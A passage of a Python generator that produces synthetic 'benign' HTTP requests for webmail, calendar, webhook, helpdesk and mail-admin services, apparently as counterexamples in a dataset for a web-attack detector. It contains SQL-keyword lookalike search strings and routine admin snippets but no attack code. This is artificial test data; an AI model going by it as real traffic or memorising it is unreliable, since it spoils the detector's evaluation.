                         cookie="smctoken=%s; smaccount=%s" % (alnum(40), alnum(60)), extra=[["X-SM-Token", tok]])
        k = i % 4
        if k == 0:
            body = {"Action": "MessageList", "Folder": pick(["INBOX", "Sent", "Archive"]), "Offset": 0, "Limit": 20,
                    "Search": pick(["", "from=bob", "subject=\"select your seats\"", "text=invoice", "is:unseen"]),
                    "UidNext": 0, "Sort": "DATE", "Hash": hexs(40)}
            emit("benign", "snappymail", "POST", "/?/Json/&q[]=/0/", h, json.dumps(body))
        elif k == 1:
            body = {"Action": "SendMessage", "IdentityID": "", "MessageFolder": "Sent", "DraftFolder": "Drafts",
                    "To": addr(), "Cc": "", "Bcc": "", "ReplyTo": "", "Subject": pick(SUBJECTS), "Html": html_body(),
                    "Text": "", "MarkAsImportant": 0, "Attachments": [], "ReadReceiptRequest": 0}
            emit("benign", "snappymail", "POST", "/?/Json/&q[]=/0/", h, json.dumps(body, ensure_ascii=False))
        elif k == 2:
            url = pick(["https://cdn.example-esp.com/img/banner.jpg", "https://www.example.com/logo.png",
                        "https://images.example.org/p/%s.png?w=300" % hexs(10)])
            enc = base64.urlsafe_b64encode(url.encode()).decode().rstrip("=")
            emit("benign", "snappymail", "GET", "/?/ProxyExternal/%s/%s/" % (hexs(40), enc),
                 [x for x in h if x[0] != "Content-Type"])
        else:
            emit("benign", "snappymail", "GET", "/?/Raw/&q[]=/%s/&q[]=/Download/&q[]=/%s" % (hexs(40), alnum(80)),
                 [x for x in h if x[0] != "Content-Type"])


# --------------------------------------------------------------------------
# calendars / contacts, unsubscribe, webhooks, helpdesk, lists, campaigns
# --------------------------------------------------------------------------

def dav_headers(host, ctype, extra=()):
    user = person()[1].split("@")[0]
    return base_headers(host, ua=pick(["DAVx5/4.4.3-ose (2024/10/01; dav4jvm; okhttp/4.12.0) Android/14",
                                       "iOS/17.6 (21G80) dataaccessd/1.0", "Thunderbird/128.5.0",
                                       "macOS/14.6 (23G80) CalendarAgent/988"]),
                        ctype=ctype, extra=[["Authorization", "Basic " + base64.b64encode(("%s:%s" % (user, alnum(14))).encode()).decode()]]
                        + list(extra))


def benign_dav():
    for i in range(8):
        host = pick(NC_HOSTS + ZM_HOSTS)
        user = person()[1].split("@")[0]
        uid = "%s-%s-%s" % (hexs(8), hexs(4), hexs(12))
        path = ("/remote.php/dav/calendars/%s/personal/%s.ics" % (user, uid) if "cloud" in host or host.startswith("nc")
                else "/dav/%s@%s/Calendar/%s.ics" % (user, host.split(".", 1)[1], uid))
        emit("benign", "caldav", "PUT", path, dav_headers(host, "text/calendar; charset=utf-8", [["If-None-Match", "*"]]), ics_invite())
    for i in range(6):
        host = pick(NC_HOSTS)
        user = person()[1].split("@")[0]
        emit("benign", "carddav", "PUT", "/remote.php/dav/addressbooks/users/%s/contacts/%s.vcf" % (user, hexs(32).upper()),
             dav_headers(host, "text/vcard; charset=utf-8", [["If-None-Match", "*"]]), vcard())
    host = pick(NC_HOSTS)
    user = person()[1].split("@")[0]
    emit("benign", "caldav", "REPORT", "/remote.php/dav/calendars/%s/personal/" % user,
         dav_headers(host, "application/xml; charset=utf-8", [["Depth", "1"]]),
         '<?xml version="1.0" encoding="UTF-8"?><c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav">'
         '<d:prop><d:getetag/><c:calendar-data/></d:prop><c:filter><c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT">'
         '<c:time-range start="20241201T000000Z" end="20250101T000000Z"/></c:comp-filter></c:comp-filter></c:filter></c:calendar-query>')
    # calendar subscriptions (remote ICS URLs)
    for url in ["https://calendar.google.com/calendar/ical/de.german%23holiday%40group.v.calendar.google.com/public/basic.ics",
                "webcal://www.officeholidays.com/ics/germany", "https://outlook.office365.com/owa/calendar/%s@contoso.com/%s/calendar.ics" % (hexs(32), hexs(32)),
                "https://www.example-uni.edu/timetable/export.ics?group=CS-2024&token=%s" % alnum(20)]:
        host = pick(RC_HOSTS)
        pairs = [("_token", alnum(32)), ("_task", "calendar"), ("_action", "calendar"), ("action", "form-new"),
                 ("c[name]", pick(["Holidays", "Team calendar", "Timetable"])), ("c[color]", "0a66c2"),
                 ("c[showalarms]", "0"), ("c[url]", url), ("c[refresh_interval]", "3600")]
        emit("benign", "calendar_subscribe", "POST", "/?_task=calendar&_action=calendar",
             rc_headers(host, "application/x-www-form-urlencoded; charset=UTF-8"), form(pairs))
    host = pick(SOGO_HOSTS)
    emit("benign", "calendar_subscribe", "POST", "/SOGo/so/%s/Calendar/addWebCalendar" % quote(person()[1], safe="@"),
         sogo_headers(host), json.dumps({"url": "https://calendar.google.com/calendar/ical/en.usa%23holiday%40group.v.calendar.google.com/public/basic.ics"}))


def benign_unsubscribe():
    for i in range(12):
        host = pick(["list.example-esp.com", "lists.example.org", "email.example-shop.com", "news.example-museum.org"])
        k = i % 4
        if k == 0:
            emit("benign", "unsubscribe", "POST", "/unsubscribe/%s" % alnum(48),
                 base_headers(host, ua=pick(["Mozilla/5.0 (compatible; GoogleListUnsubscribe/1.0)", "Yahoo-Unsubscribe/1.0",
                                             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"]),
                              ctype="application/x-www-form-urlencoded"), "List-Unsubscribe=One-Click")
        elif k == 1:
            emit("benign", "unsubscribe", "GET", "/unsubscribe?" + qs([("u", hexs(25)), ("id", hexs(10)), ("e", hexs(10)),
                                                                       ("c", hexs(10)), ("utm_source", "newsletter"),
                                                                       ("utm_campaign", "dec-2024")]),
                 base_headers(host, ua=pick(UA_ANY), accept=ACCEPT_HTML))
        elif k == 2:
            pairs = [("email", person()[1]), ("reason", pick(["too_frequent", "not_relevant", "other"])),
                     ("comment", pick(["Too many emails, sorry!", "I never signed up for this... or did I? Anyway, drop me from the list.",
                                       "Please select fewer topics; I only want the monthly digest.", ""])),
                     ("lists[]", "weekly"), ("lists[]", "offers"), ("csrf_token", alnum(40))]
            emit("benign", "unsubscribe", "POST", "/preferences/%s/save" % alnum(32),
                 base_headers(host, ua=pick(UA_ANY), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"), form(pairs))
        else:
            emit("benign", "unsubscribe", "GET", "/mailman/options/ops-list?" + qs([("email", person()[1]), ("login-unsub", "Unsubscribe")]),
                 base_headers(host, ua=pick(UA_ANY), accept=ACCEPT_HTML))
    # spam reports
    for i in range(6):
        host = pick(RC_HOSTS)
        if i % 2 == 0:
            pairs = [("_uid", str(R.randrange(100, 90000))), ("_mbox", "INBOX"), ("_multifolder", "0"), ("_remote", "1"),
                     ("_unlock", "loading" + ts_ms())]
            emit("benign", "spam_report", "POST", "/?_task=mail&_action=plugin.markasjunk",
                 rc_headers(host, "application/x-www-form-urlencoded; charset=UTF-8"), form(pairs))
        else:
            raw_hdrs = ("Received: from unknown (HELO mail.example-bulk.biz) ([198.51.100.23])\n  by mx2.example.com with SMTP; 2 Dec 2024 03:11:52 -0000\n"
                        "Authentication-Results: mx2.example.com; spf=softfail (domain of transitioning bounce@example-bulk.biz does not designate 198.51.100.23 as permitted sender) smtp.mailfrom=bounce@example-bulk.biz; dkim=none; dmarc=fail\n"
                        "X-Originating-IP: [198.51.100.23]\nFrom: \"Prize Dept.\" <winner@example-bulk.biz>\nSubject: =?utf-8?B?WW91IGhhdmUgd29uIQ==?=\n"
                        "X-Spam-Status: Yes, score=9.8 required=5.0 tests=BAYES_99,HTML_IMAGE_ONLY_24,RDNS_NONE,URIBL_BLACK\n")
            pairs = [("reporter", person()[1]), ("category", "spam"), ("headers", raw_hdrs),
                     ("comment", "Third one this week. Please block the sending range.")]
            emit("benign", "spam_report", "POST", "/abuse/report", base_headers("abuse." + pick(DOMAINS), accept=ACCEPT_HTML,
                                                                               ctype="application/x-www-form-urlencoded"), form(pairs))


def mailgun_fields(subject, text, html):
    n, m = person()
    rcpt = "support@%s" % pick(["helpdesk.example.com", "mg.example-crm.com"])
    heads = [["Received", "from mail-wr1-f54.google.com (mail-wr1-f54.google.com [209.85.221.54]) by mxa.mailgun.org with ESMTP id %s; Tue, 03 Dec 2024 09:12:44 +0000" % hexs(24)],
             ["Authentication-Results", "mxa.mailgun.org; dkim=pass header.d=example.com; spf=pass smtp.mailfrom=%s" % m],
             ["From", "%s <%s>" % (n, m)], ["To", rcpt], ["Subject", subject], ["Message-Id", "<%s@mail.gmail.com>" % alnum(30)],
             ["Mime-Version", "1.0"], ["Content-Type", "multipart/alternative; boundary=\"%s\"" % hexs(28)]]
    return [("recipient", rcpt), ("sender", m), ("from", "%s <%s>" % (n, m)), ("subject", subject),
            ("body-plain", text), ("stripped-text", text.split("\n\nOn ")[0]), ("stripped-signature", ""),
            ("body-html", html), ("stripped-html", html), ("attachment-count", "0"), ("timestamp", str(1733200000 + R.randrange(10**6))),
            ("token", hexs(50)), ("signature", hexs(64)), ("message-headers", json.dumps(heads)),
            ("X-Mailgun-Incoming", "Yes")]


def benign_webhooks():
    for i in range(7):
        host = pick(HOOK_HOSTS)
        text = quoted_reply() if i % 2 else plain_body()
        html = newsletter_html() if i == 4 else html_body(text, quote_html=(i % 2 == 1))
        fields = mailgun_fields(pick(SUBJECTS), text, html)
        if i % 3 == 0:
            parts = [(k, None, None, v) for k, v in fields]
            parts.append(("attachment-1", "invoice-2024-11.pdf", "application/pdf",
                          b"%PDF-1.5\n%\xb5\xed\xae\xfb\n" + bytes(R.randrange(256) for _ in range(220))))
            parts = [(k, f, c, ("1" if k == "attachment-count" else v)) for k, f, c, v in parts]
            ct, body = multipart(parts, bnd=hexs(32))
        else:
            ct, body = "application/x-www-form-urlencoded", form(fields)
        emit("benign", "webhook_mailgun", "POST", "/webhooks/mailgun/inbound",
             base_headers(host, ua="Go-http-client/1.1", accept="*/*", ctype=ct), body)
    for i in range(6):
        host = pick(HOOK_HOSTS)
        n, m = person()
        text = plain_body() if i % 2 else forwarded()
        html = html_body(text)
        raw_h = ("Received: by mx0047p1mdw1.sendgrid.net with SMTP id %s Tue, 03 Dec 2024 10:01:55 +0000 (UTC)\n"
                 "Received: from mail-pl1-f180.google.com (unknown [209.85.214.180]) by mx0047p1mdw1.sendgrid.net (Postfix) with ESMTPS id 4Y2"
                 "%s for <inbound@parse.example-saas.com>; Tue, 03 Dec 2024 10:01:55 +0000 (UTC)\nDKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; "
                 "d=example.com; s=20230601; t=1733220114; x=1733824914; h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:"
                 "message-id:reply-to; bh=%s=; b=%s\nFrom: %s <%s>\nDate: Tue, 3 Dec 2024 11:01:43 +0100\nSubject: %s\nTo: inbound@parse.example-saas.com\n"
                 % (alnum(10), alnum(6), alnum(43), alnum(120), n, m, pick(SUBJECTS)))
        parts = [("headers", None, None, raw_h), ("dkim", None, None, "{@example.com : pass}"),
                 ("content-ids", None, None, "{}"), ("to", None, None, "inbound@parse.example-saas.com"),
                 ("html", None, None, html), ("from", None, None, "%s <%s>" % (n, m)), ("text", None, None, text),
                 ("sender_ip", None, None, "209.85.214.180"), ("spam_report", None, None,
                  "Spam detection software, running on the system \"parsley-p1mdw1-22\",\nhas NOT identified this incoming email as spam.\n\n"
                  "Content analysis details:   (0.1 points, 5.0 required)\n\n pts rule name              description\n"
                  "---- ---------------------- --------------------------------------------------\n 0.1 HTML_MESSAGE           BODY: HTML included in message\n"),
                 ("envelope", None, None, json.dumps({"to": ["inbound@parse.example-saas.com"], "from": m})),
                 ("attachments", None, None, "0"), ("subject", None, None, pick(SUBJECTS)), ("spam_score", None, None, "0.1"),
                 ("charsets", None, None, json.dumps({"to": "UTF-8", "html": "UTF-8", "subject": "UTF-8", "from": "UTF-8", "text": "UTF-8"})),
                 ("SPF", None, None, "pass")]
        ct, body = multipart(parts, bnd="xYzZY")
        emit("benign", "webhook_sendgrid", "POST", "/api/inbound/sendgrid", base_headers(host, ua="Sendlib/1.0 parse.sendgrid.net",
                                                                                         accept="*/*", ctype=ct), body)
    for i in range(6):
        host = pick(HOOK_HOSTS)
        n, m = person()
        text = quoted_reply() if i % 2 else plain_body(pick(LANG_KEYS))
        payload = {"FromName": n, "MessageStream": "inbound", "From": m,
                   "FromFull": {"Email": m, "Name": n, "MailboxHash": ""},
                   "To": "\"Support\" <support+%s@inbound.postmarkapp.com>" % hexs(8),
                   "ToFull": [{"Email": "support+%s@inbound.postmarkapp.com" % hexs(8), "Name": "Support", "MailboxHash": hexs(8)}],
                   "Cc": "", "CcFull": [], "Bcc": "", "BccFull": [], "OriginalRecipient": "support@example-helpdesk.io",
                   "Subject": pick(SUBJECTS), "MessageID": "%s-%s-%s" % (hexs(8), hexs(4), hexs(12)), "ReplyTo": "",
                   "MailboxHash": hexs(8), "Date": "Tue, 3 Dec 2024 11:14:05 +0100", "TextBody": text,
                   "HtmlBody": html_body(text, quote_html=bool(i % 2)), "StrippedTextReply": text.split("\n\n")[1] if "\n\n" in text else text,
                   "Tag": "", "Headers": [
                       {"Name": "X-Spam-Checker-Version", "Value": "SpamAssassin 3.4.6 (2021-04-09) on p-pm-inboundg02c-aws-useast2a"},
                       {"Name": "X-Spam-Status", "Value": "No"}, {"Name": "X-Spam-Score", "Value": "-0.1"},
                       {"Name": "X-Spam-Tests", "Value": "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,RCVD_IN_DNSWL_NONE,SPF_HELO_NONE,SPF_PASS"},
                       {"Name": "Received-SPF", "Value": "pass (example.com: Sender is authorized to use '%s' in 'mfrom' identity (mechanism 'include:_spf.google.com' matched)) receiver=p-pm-inboundg02c-aws-useast2a; identity=mailfrom; envelope-from=\"%s\"; helo=mail-qk1-f178.google.com; client-ip=209.85.222.178" % (m, m)},
                       {"Name": "Authentication-Results", "Value": "inbound.postmarkapp.com; dkim=pass header.d=example.com; dmarc=pass header.from=example.com"}],
                   "Attachments": []}
        if i % 3 == 0:
            payload["Attachments"].append({"Name": "signature.asc" if i == 3 else "photo.jpg",
                                           "Content": base64.b64encode(pgp_signed("ok").encode() if i == 3 else bytes(R.randrange(256) for _ in range(180))).decode(),
                                           "ContentType": "application/pgp-signature" if i == 3 else "image/jpeg", "ContentLength": 180, "ContentID": ""})
        emit("benign", "webhook_postmark", "POST", "/hooks/postmark/inbound", base_headers(host, ua="Postmark", accept="*/*",
                                                                                         ctype="application/json"), json.dumps(payload, ensure_ascii=False))
    for i in range(3):
        host = pick(HOOK_HOSTS)
        mime = eml(pick(SUBJECTS), plain_body(), html_body())
        msg = {"notificationType": "Received", "mail": {"timestamp": "2024-12-03T10:22:31.412Z", "source": person()[1],
                                                        "messageId": alnum(20).lower(), "destination": ["inbox@mail.example-saas.com"]},
               "receipt": {"spamVerdict": {"status": "PASS"}, "virusVerdict": {"status": "PASS"}, "spfVerdict": {"status": "PASS"},
                           "dkimVerdict": {"status": "PASS"}, "dmarcVerdict": {"status": "PASS"}, "action": {"type": "SNS", "encoding": "UTF8"}},
               "content": mime}
        sns = {"Type": "Notification", "MessageId": "%s-%s-%s" % (hexs(8), hexs(4), hexs(12)),
               "TopicArn": "arn:aws:sns:eu-west-1:123456789012:ses-inbound", "Subject": "Amazon SES Email Receipt Notification",
               "Message": json.dumps(msg), "Timestamp": "2024-12-03T10:22:32.001Z", "SignatureVersion": "1",
               "Signature": alnum(172) + "==", "SigningCertURL": "https://sns.eu-west-1.amazonaws.com/SimpleNotificationService-%s.pem" % hexs(32)}
        emit("benign", "webhook_ses", "POST", "/ses/inbound", base_headers(host, ua="Amazon Simple Notification Service Agent",
                                                                          ctype="text/plain; charset=UTF-8",
                                                                          extra=[["x-amz-sns-message-type", "Notification"],
                                                                                 ["x-amz-sns-topic-arn", "arn:aws:sns:eu-west-1:123456789012:ses-inbound"]]),
             json.dumps(sns))


def benign_campaigns_helpdesk():
    # self-hosted newsletter tools: templates use their own placeholder syntax
    for i in range(5):
        host = pick(["listmonk.example.com", "news-admin.example.org"])
        tpl = newsletter_html().replace("Unsubscribe</a>", "Unsubscribe</a> {{ TrackView }}").replace(
            "https://www.example-esp.com/unsubscribe?", "{{ UnsubscribeURL }}&amp;")
        tpl = tpl.replace("<h2 style", "<p>Hi {{ .Subscriber.FirstName }},</p><h2 style", 1)
        body = {"name": "December digest %d" % (i + 1), "subject": "{{ .Subscriber.FirstName }}, your December update",
                "lists": [R.randint(1, 9)], "from_email": "Example News <news@example.com>", "content_type": "richtext",
                "messenger": "email", "type": "regular", "tags": ["newsletter"], "template_id": 1, "body": tpl}
        emit("benign", "campaign", "POST", "/api/campaigns", base_headers(host, accept="application/json", ctype="application/json",
                                                                         extra=[["Authorization", "token api_user:%s" % alnum(32)]]),
             json.dumps(body, ensure_ascii=False))
    for i in range(3):
        host = "mautic.example.com"
        pairs = [("emailform[name]", "Welcome series #%d" % (i + 1)), ("emailform[subject]", "Welcome, {contactfield=firstname}!"),
                 ("emailform[customHtml]", "<p>Hello {contactfield=firstname|there},</p><p>Thanks for joining. "
                                           "{dynamiccontent=\"Dynamic Content 1\"}</p><p><a href=\"{unsubscribe_url}\">Unsubscribe</a> "
                                           "| {webview_text}</p>{tracking_pixel}"),
                 ("emailform[emailType]", "template"), ("emailform[_token]", alnum(43))]
        emit("benign", "campaign", "POST", "/s/emails/new", base_headers(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded",
                                                                         cookie="mautic_session=%s" % alnum(26).lower()), form(pairs))
    # helpdesk ticket APIs and contact forms
    for i in range(8):
        host = pick(["support.example.com", "helpdesk.example.org", "tickets.example-isp.net"])
        n, m = person()
        k = i % 3
        if k == 0:
            body = {"alert": True, "autorespond": True, "source": "API", "name": n, "email": m, "phone": "+44 20 7946 0%03d" % R.randrange(1000),
                    "subject": pick(SUBJECTS), "ip": "203.0.113.%d" % R.randint(1, 254),
                    "message": "data:text/html;charset=utf-8,%s" % quote(html_body(plain_body("en"), with_sig=False)),
                    "attachments": [{"notes.txt": "data:text/plain;charset=utf-8,%s" % quote("Order 4412: select the blue variant, drop the gift wrap.")}]}
            emit("benign", "helpdesk", "POST", "/api/tickets.json", base_headers(host, ua="osTicket-mailer/1.18", accept="application/json",
                                                                              ctype="application/json", extra=[["X-API-Key", hexs(32).upper()]]),
                 json.dumps(body))
        elif k == 1:
            pairs = [("name", n), ("email", m), ("subject", pick(SUBJECTS)), ("message", quoted_reply()),
                     ("department", pick(["billing", "it", "sales"])), ("website", ""), ("_csrf", alnum(40))]
            emit("benign", "contact_form", "POST", "/contact", base_headers(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
                 form(pairs))
        else:
            body = {"ticket": {"subject": pick(SUBJECTS), "comment": {"html_body": html_body(quote_html=True)},
                               "requester": {"name": n, "email": m}, "tags": ["email", "inbound"], "priority": "normal"}}
            emit("benign", "helpdesk", "POST", "/api/v2/tickets.json", base_headers(host, accept="application/json", ctype="application/json",
                                                                                 extra=[["Authorization", "Basic " + base64.b64encode(("%s/token:%s" % (m, alnum(40))).encode()).decode()]]),
                 json.dumps(body, ensure_ascii=False))
    # mailing-list archives and digests
    for i in range(5):
        host = "lists.example.org"
        if i % 2 == 0:
            emit("benign", "mailing_list", "GET", "/hyperkitty/search?" + qs([("mlist", "ops-list@lists.example.org"),
                                                                              ("q", pick(["select from", "drop table", "union mount", "script error", "order by"]))]),
                 base_headers(host, accept=ACCEPT_HTML))
        else:
            pairs = [("_task", "mail"), ("_action", "send"), ("_to", "ops-list@lists.example.org"), ("_subject", "Re: [ops-list] Digest, Vol 112, Issue 4"),
                     ("_message", digest_text()), ("_is_html", "0"), ("_token", alnum(32))]
            emit("benign", "mailing_list", "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
                 rc_headers(pick(RC_HOSTS), "application/x-www-form-urlencoded", xhr=False), form(pairs))
    # mailbox import / export
    for i in range(4):
        host = pick(ZM_HOSTS + RC_HOSTS)
        if host in ZM_HOSTS:
            bio = io.BytesIO()
            with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
                for j in range(2):
                    zi = zipfile.ZipInfo("Inbox/%04d-%s.eml" % (j + 1, hexs(6)), date_time=(2024, 11, 30, 12, 0, 0))
                    z.writestr(zi, eml(pick(SUBJECTS), plain_body()))
            emit("benign", "mailbox_import", "POST", "/service/home/~/?fmt=zip&resolve=skip",
                 base_headers(host, cookie=zm_cookie(), ctype="application/zip"), bio.getvalue())
        else:
            mbox = "".join("From %s Tue Dec  3 10:12:31 2024\n%s\n" % (person()[1], eml(pick(SUBJECTS), plain_body()).replace("\r\n", "\n"))
                           for _ in range(2))
            ct, body = multipart([("_token", None, None, alnum(32)), ("_file[]", "archive-2023.mbox", "application/mbox", mbox)])
            emit("benign", "mailbox_import", "POST", "/?_task=mail&_action=import&_mbox=Archive%%2F2023&_framed=1&_unlock=loading%s" % ts_ms(),
                 rc_headers(host, ct, xhr=False), body)
    # S/MIME: a signed message uploaded as .eml and a certificate import
    for i in range(3):
        host = pick(RC_HOSTS)
        att = ("--{BND}\r\nContent-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\nContent-Transfer-Encoding: base64\r\n"
               "Content-Disposition: attachment; filename=\"smime.p7s\"\r\n\r\n%s\r\n" % b64blob(500, 76).replace("\n", "\r\n"))
        m = eml(pick(SUBJECTS), plain_body(), attach=att)
        ct, body = multipart([("_file[]", "signed-message.eml", "message/rfc822", m)])
        emit("benign", "smime", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
             rc_headers(host, ct), body)


# --------------------------------------------------------------------------
# dev-content: admins and developers mailing each other / a helpdesk
# --------------------------------------------------------------------------

DEV_SNIPPETS = [
    ("Sieve: vacation + fileinto", "sieve", 'require ["fileinto", "vacation", "regex", "variables"];\n\nif header :regex "subject" "^\\\\[(JIRA|GitLab)\\\\] (.*)$" {\n    set "proj" "${1}";\n    fileinto "Dev/${proj}";\n    stop;\n}\nif header :contains "subject" "[SPAM]" { fileinto "Junk"; }\nvacation :days 7 :addresses ["dana@example.com"] "Back on Monday.";'),
    ("Sieve spamtest question", "sieve", 'require ["spamtestplus", "fileinto", "relational", "comparator-i;ascii-numeric"];\nif spamtest :value "ge" :comparator "i;ascii-numeric" :percent "80" {\n  fileinto "Junk";\n}\n# is :percent supported by Pigeonhole 0.5 or do I need the plain :value form?'),
    ("Postfix main.cf restrictions", "postfix", "smtpd_recipient_restrictions =\n    permit_mynetworks,\n    permit_sasl_authenticated,\n    reject_unauth_destination,\n    reject_rbl_client zen.spamhaus.org,\n    check_policy_service unix:private/policyd-spf\nsmtpd_tls_security_level = may\nsmtp_tls_CAfile = /etc/ssl/certs/ca-certificates.crt\nmessage_size_limit = 52428800"),
    ("master.cf submission port", "postfix", "submission inet n       -       y       -       -       smtpd\n  -o syslog_name=postfix/submission\n  -o smtpd_tls_security_level=encrypt\n  -o smtpd_sasl_auth_enable=yes\n  -o smtpd_client_restrictions=permit_sasl_authenticated,reject\n  -o milter_macro_daemon_name=ORIGINATING"),
    ("Dovecot SQL passdb", "dovecot", "# /etc/dovecot/dovecot-sql.conf.ext\ndriver = mysql\nconnect = host=127.0.0.1 dbname=mailserver user=mailuser password=CHANGE_ME\ndefault_pass_scheme = SHA512-CRYPT\npassword_query = SELECT email AS user, password FROM virtual_users WHERE email = '%u' AND active = 1;\nuser_query = SELECT 5000 AS uid, 5000 AS gid, CONCAT('/var/vmail/', domain, '/', local_part) AS home FROM virtual_users WHERE email = '%u';"),
    ("dovecot 10-master.conf for postfix auth", "dovecot", "service auth {\n  unix_listener /var/spool/postfix/private/auth {\n    mode = 0660\n    user = postfix\n    group = postfix\n  }\n}\nservice imap-login {\n  inet_listener imaps {\n    port = 993\n    ssl = yes\n  }\n}"),
    ("deferred queue cleanup", "shell", "postqueue -p | grep -c '^[A-F0-9]'\n# delete everything deferred for the dead domain\npostqueue -p | awk '/@old-partner\\.example$/ {print $1}' | tr -d '*!' | postsuper -d -\npostsuper -r ALL deferred"),
    ("expunge old Trash", "shell", "doveadm expunge -A mailbox Trash savedbefore 30d\ndoveadm expunge -u bob@example.com mailbox Junk SEEN savedbefore 14d\ndoveadm -v quota recalc -A"),
    ("testing IMAP by hand", "shell", "$ openssl s_client -connect mail.example.com:993 -crlf -quiet\n* OK [CAPABILITY IMAP4rev1 SASL-IR LOGIN-REFERRALS ID ENABLE IDLE LITERAL+ AUTH=PLAIN] Dovecot ready.\na1 LOGIN dana@example.com ********\na1 OK Logged in\na2 SELECT INBOX\na3 UID SEARCH UNSEEN FROM \"bob\"\na4 LOGOUT"),
    ("swaks test for the relay", "shell", "swaks --to alice@example.com --from noreply@example.com \\\n  --server smtp.example.com:587 --tls \\\n  --auth LOGIN --auth-user relay@example.com --auth-password \"$RELAY_PW\" \\\n  --header \"Subject: relay test $(date +%F)\" --body 'ping'"),
    ("SMTP transcript for the bounce", "smtp", "S: 220 mx.example-partner.co.uk ESMTP\nC: EHLO mail.example.com\nS: 250-mx.example-partner.co.uk\nS: 250 STARTTLS\nC: MAIL FROM:<noreply@example.com> SIZE=18231\nS: 250 2.1.0 Ok\nC: RCPT TO:<j.doe@example-partner.co.uk>\nS: 550 5.1.1 <j.doe@example-partner.co.uk>: Recipient address rejected: User unknown in virtual mailbox table\nC: QUIT"),
    ("Roundcube session table cleanup", "sql", "-- the session table is 9 GB again\nSELECT COUNT(*) FROM session WHERE changed < NOW() - INTERVAL 1 DAY;\nDELETE FROM session WHERE changed < NOW() - INTERVAL 1 DAY;\nOPTIMIZE TABLE session;"),
    ("biggest mailboxes in postfixadmin", "sql", "SELECT username, quota/1048576 AS quota_mb, modified\nFROM mailbox\nWHERE domain = 'example.com' AND active = 1\nORDER BY quota DESC\nLIMIT 10;"),
    ("switch language for the German users", "sql", "UPDATE users SET language = 'de_DE'\nWHERE username LIKE '%@acme-corp.de' AND (language IS NULL OR language = 'en_US');\n-- then: SELECT language, COUNT(*) FROM users GROUP BY language;"),
    ("slow contacts autocomplete", "sql", "EXPLAIN SELECT * FROM contacts WHERE user_id = 42 AND del <> 1 AND (name LIKE '%mül%' OR email LIKE '%mül%') ORDER BY name, email LIMIT 0, 15;\n-- type: ALL, rows: 183422 -> needs an index on (user_id, del)\nALTER TABLE contacts ADD INDEX user_contacts_index (user_id, del);"),
    ("config.inc.php for the new SMTP relay", "php", "<?php\n$config['imap_host'] = 'ssl://imap.example.com:993';\n$config['smtp_host'] = 'tls://smtp.example.com:587';\n$config['smtp_user'] = '%u';\n$config['smtp_pass'] = '%p';\n$config['des_key'] = getenv('RC_DES_KEY');\n$config['plugins'] = ['archive', 'zipdownload', 'managesieve', 'markasjunk'];\n$config['log_driver'] = 'syslog';"),
    ("our Roundcube plugin hook", "php", "class footer_banner extends rcube_plugin\n{\n    public $task = 'mail';\n\n    function init()\n    {\n        $this->add_hook('message_before_send', [$this, 'before_send']);\n    }\n\n    function before_send($args)\n    {\n        $args['message']->setHTMLBody($args['message']->getHTMLBody() . '<p style=\"font-size:9px\">Confidential</p>');\n        return $args;\n    }\n}"),
    ("shared mailboxes export", "powershell", "Get-Mailbox -ResultSize Unlimited -RecipientTypeDetails SharedMailbox |\n  Select-Object DisplayName, PrimarySmtpAddress, @{n='SizeMB';e={(Get-MailboxStatistics $_).TotalItemSize.Value.ToMB()}} |\n  Sort-Object SizeMB -Descending |\n  Export-Csv C:\\Temp\\shared.csv -NoTypeInformation -Encoding UTF8"),
    ("forwarding for the leaver", "powershell", "Set-Mailbox -Identity \"j.doe@contoso.com\" -ForwardingSmtpAddress \"team-sales@contoso.com\" -DeliverToMailboxAndForward $true\nSet-MailboxAutoReplyConfiguration -Identity j.doe -AutoReplyState Enabled -ExternalMessage \"J. Doe has left Contoso. Please write to sales@contoso.com.\""),
    ("external sender banner rule", "powershell", "New-TransportRule -Name \"External sender banner\" -FromScope NotInOrganization -SentToScope InOrganization `\n  -ApplyHtmlDisclaimerLocation Prepend `\n  -ApplyHtmlDisclaimerText \"<div style='background:#fff3cd;border:1px solid #ffc107;padding:6px'><b>CAUTION:</b> This email came from outside the organisation. Do not click links unless you recognise the sender.</div>\" `\n  -ApplyHtmlDisclaimerFallbackAction Wrap"),
    ("compliance search for the phishing mail", "powershell", "New-ComplianceSearch -Name \"Phish-2024-12-03\" -ExchangeLocation All `\n  -ContentMatchQuery '(subject:\"Your password expires today\") AND (received>=2024-12-02) AND (from:it-support@contoso-helpdesk.example)'\nStart-ComplianceSearch -Identity \"Phish-2024-12-03\"\nNew-ComplianceSearchAction -SearchName \"Phish-2024-12-03\" -Purge -PurgeType SoftDelete"),
    ("message trace for the missing invoice", "powershell", "Get-MessageTrackingLog -Start (Get-Date).AddDays(-2) -Sender billing@fabrikam.com -ResultSize Unlimited |\n  Where-Object { $_.MessageSubject -like '*Invoice*' } |\n  Select-Object Timestamp, EventId, Source, Recipients, MessageSubject | Format-Table -AutoSize"),
    ("delegate access", "powershell", "Add-MailboxPermission -Identity ceo@contoso.com -User assistant@contoso.com -AccessRights FullAccess -InheritanceType All -AutoMapping $false\nAdd-RecipientPermission -Identity ceo@contoso.com -Trustee assistant@contoso.com -AccessRights SendAs -Confirm:$false"),
    ("renew the Exchange certificate", "powershell", "Import-ExchangeCertificate -FileData ([System.IO.File]::ReadAllBytes('C:\\certs\\mail2025.pfx')) -Password (Read-Host -AsSecureString)\nEnable-ExchangeCertificate -Thumbprint 5A1F... -Services IIS,SMTP\nGet-ExchangeCertificate | Format-List FriendlyName, Thumbprint, NotAfter, Services"),
